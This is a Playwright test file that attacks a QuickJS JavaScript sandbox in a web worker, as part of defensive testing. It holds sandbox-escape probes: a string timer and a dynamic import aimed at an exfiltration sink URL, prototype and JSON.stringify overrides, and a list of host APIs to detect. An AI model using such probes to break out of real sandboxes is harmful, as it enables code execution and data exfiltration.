// The JavaScript sandbox (tools/javascript/: QuickJS in its worker) given the battery the Python
// escape of issue 8 called for: the guest's global object and its prototype chain hold nothing of
// the host (no timers to receive a `this` from, no natives to hand a string), dynamic import loads
// nothing, nothing a run plants reaches the next, and the worker script's own policy refuses code
// from strings and connections beyond the app. Driven through the harness page in the e2e build.

import type { Page } from '@playwright/test';
import type { JsRunResult } from '../../workers/engine/ports.ts';
import { expect, test } from '../support/test.ts';
import { guardedPage, type GuardedPage } from './fixtures.ts';
import { probeWorkerPolicy, refusedEverywhere, type ExfiltrationSink } from './support.ts';

const HARNESS = '/e2e/harness/javascript.html';

function run(page: Page, code: string): Promise<JsRunResult> {
  return page.evaluate((source) => window.javascriptHarness.run(source, { timeoutMs: 5_000 }), code);
}

test.describe('JavaScript sandbox under attack', () => {
  test.describe.configure({ mode: 'serial', timeout: 120_000 });
  let guard: GuardedPage;
  let page: Page;
  let sink: ExfiltrationSink;

  test.beforeAll(async ({ browser }) => {
    guard = await guardedPage(browser, HARNESS, 'javascriptHarness');
    ({ page, sink } = guard);
    expect((await run(page, '1 + 1')).value).toBe(2);
  });

  test.afterAll(() => guard.close());
  test.afterEach(() => guard.check());

  test('the global object and its whole prototype chain hold nothing of the host', async () => {
    const result = await run(
      page,
      `const host = ['setTimeout', 'setInterval', 'queueMicrotask', 'fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource',
        'importScripts', 'Worker', 'postMessage', 'self', 'window', 'document', 'navigator', 'location', 'indexedDB', 'caches'];
      const found = [];
      for (let owner = globalThis, depth = 0; owner !== null; owner = Object.getPrototypeOf(owner), depth++) {
        for (const name of Object.getOwnPropertyNames(owner)) if (host.includes(name)) found.push(depth + ':' + name);
      }
      found`,
    );
    expect(result).toMatchObject({ value: [], error: null });
  });

  test('timer receiver tricks and string timers have nothing to work with', async () => {
    const result = await run(
      page,
      `const tries = {
        setTimeout: () => setTimeout("import('${sink.url}/string-timer')", 0),
        receiver: () => (function () { return this; }).call(undefined) === globalThis ? 'global' : 'other',
        constructorTimer: () => globalThis.constructor.prototype.setTimeout("1", 0),
      };
      const report = {};
      for (const [name, attempt] of Object.entries(tries)) {
        try { report[name] = String(attempt()); } catch (error) { report[name] = error.name; }
      }
      report`,
    );
    // A sloppy function's `this` is QuickJS's own global, which holds nothing of the host (above).
    expect(result.value).toEqual({ setTimeout: 'ReferenceError', receiver: 'global', constructorTimer: 'TypeError' });
  });

  test('dynamic import loads nothing', async () => {
    const result = await run(page, `return await import('${sink.url}/guest-import.js').then(() => 'loaded', (error) => String(error));`);
    expect(result.value).toMatch(/^(SyntaxError|TypeError|ReferenceError|Error): /);
    expect(result.value).not.toBe('loaded');
  });

  test('nothing a run plants reaches the next', async () => {
    const plant = await run(
      page,
      `globalThis.planted = 'yes';
      Object.prototype.leak = 'yes';
      Array.prototype.map = function () { return ['hijacked']; };
      JSON.stringify = () => 'hijacked';
      'planted'`,
    );
    expect(plant).toMatchObject({ value: 'planted', error: null });
    const next = await run(page, "[typeof planted, ({}).leak === undefined, [1, 2].map((x) => x * 2), JSON.stringify({ a: 1 })]");
    expect(next.value).toEqual(['undefined', true, [2, 4], '{"a":1}']);
  });

  test('layer: the worker script’s own policy refuses code from strings and connections beyond the app', async () => {
    const workerUrl = page.workers().find((worker) => worker.url().includes('javascript.worker'))?.url();
    if (!workerUrl) throw new Error('no JavaScript sandbox worker is running');
    const { attempts, refused } = refusedEverywhere(sink.url);
    const app = "attempt(() => fetch('/favicon.svg').then((response) => response.status))";
    expect(await probeWorkerPolicy(page, workerUrl, { ...attempts, app })).toEqual({ ...refused, app: '200' });
  });
});
